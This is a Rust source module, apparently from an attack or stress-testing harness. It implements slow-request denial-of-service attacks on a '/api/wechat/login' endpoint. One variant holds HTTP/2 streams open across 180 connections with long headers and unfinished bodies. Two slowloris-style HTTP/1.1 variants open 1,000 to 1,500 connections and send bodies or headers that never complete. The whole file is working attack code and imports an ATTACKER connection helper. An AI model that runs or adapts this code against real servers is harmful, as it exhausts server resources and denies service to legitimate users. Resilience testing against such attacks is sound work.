//! Requests that do not end.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::Semaphore;

use super::Target;
use super::client::{ATTACKER, connect, crowd, drain};
use crate::frames::{self, DATA, FRAME_HEAD, POST, RST_STREAM, WINDOW_UPDATE, frame, greeting};

const PATH: &str = "/api/wechat/login";
const CONNECTIONS: usize = 180;
const STREAMS: u32 = 64;
/// What is sent of each body, in as many pieces, of which each fits into a frame.
const BODY: usize = 63 * 1024;
const PIECES: usize = 4;
const HTTP1_BODIES: usize = 1_500;
const HTTP1_HEADERS: usize = 1_000;
const HEADER: usize = 15 * 1024;
/// What HTTP/2 allows to be sent before the other end says more.
const FIRST_WINDOW: usize = 65_535;
/// A connection on which most streams were answered is left for a new one.
const ANSWERED: usize = 48;
/// … after so long: all of them together send 300 MB a second.
const PAUSE: Duration = Duration::from_secs(2);

/// Bodies without end on many streams, each with a header of that length.
pub async fn http2(target: Target, header: usize) {
    crowd(CONNECTIONS, move || {
        http2_connection(target.clone(), header)
    })
    .await;
}

async fn http2_connection(target: Target, header: usize) -> io::Result<()> {
    let (reader, mut writer) = connect(ATTACKER, target.address).await?.into_split();
    let window = Arc::new(Semaphore::new(FIRST_WINDOW));
    let reading = read(reader, Arc::clone(&window));
    let writing = async {
        writer.write_all(&greeting(&[])).await?;
        let long = "x".repeat(header);
        for stream in streams() {
            let headers = [("content-type", "application/json"), ("x-long", &long)];
            writer
                .write_all(&frames::request(POST, stream, 0, PATH, &headers))
                .await?;
        }
        let piece = vec![b' '; BODY / PIECES];
        for _ in 0..PIECES {
            for stream in streams() {
                let length = u32::try_from(piece.len()).unwrap_or(u32::MAX);
                window
                    .acquire_many(length)
                    .await
                    .map_err(io::Error::other)?
                    .forget();
                writer.write_all(&frame(DATA, 0, stream, &piece)).await?;
            }
        }
        std::future::pending().await
    };
    tokio::select! {
        ended = reading => ended,
        ended = writing => ended,
    }?;
    tokio::time::sleep(PAUSE).await;
    Ok(())
}

pub fn streams() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|n| 2 * n + 1)
}

/// Learns what may be sent; ends with the connection, or when most streams were answered.
async fn read(mut reader: OwnedReadHalf, window: Arc<Semaphore>) -> io::Result<()> {
    use tokio::io::AsyncReadExt;
    let (mut head, mut payload, mut answered) = ([0; FRAME_HEAD], Vec::new(), 0);
    while answered < ANSWERED {
        reader.read_exact(&mut head).await?;
        let (length, kind, flags, stream) = frames::head(head);
        payload.resize(length, 0);
        reader.read_exact(&mut payload).await?;
        match kind {
            WINDOW_UPDATE if stream == 0 => {
                let more = payload
                    .first_chunk()
                    .map_or(0, |more| u32::from_be_bytes(*more));
                window.add_permits(more as usize);
            }
            RST_STREAM => answered += 1,
            DATA if flags & frames::END_STREAM != 0 => answered += 1,
            _ => {}
        }
    }
    Ok(())
}

/// Bodies of which the last byte does not come.
pub async fn http1(target: Target) {
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        BODY + 1
    );
    let request: Arc<[u8]> = [head.as_bytes(), &vec![b' '; BODY]].concat().into();
    crowd(HTTP1_BODIES, move || {
        unfinished(target.clone(), Arc::clone(&request))
    })
    .await;
}

/// Headers without the empty line after them.
pub async fn headers(target: Target) {
    let request: Arc<[u8]> = format!("POST {PATH} HTTP/1.1\r\nX-Long: {}", "x".repeat(HEADER))
        .into_bytes()
        .into();
    crowd(HTTP1_HEADERS, move || {
        unfinished(target.clone(), Arc::clone(&request))
    })
    .await;
}

/// As long as the server lets it stand.
async fn unfinished(target: Target, request: Arc<[u8]>) -> io::Result<()> {
    let mut stream = connect(ATTACKER, target.address).await?;
    stream.write_all(&request).await?;
    drain(&mut stream).await;
    Ok(())
}
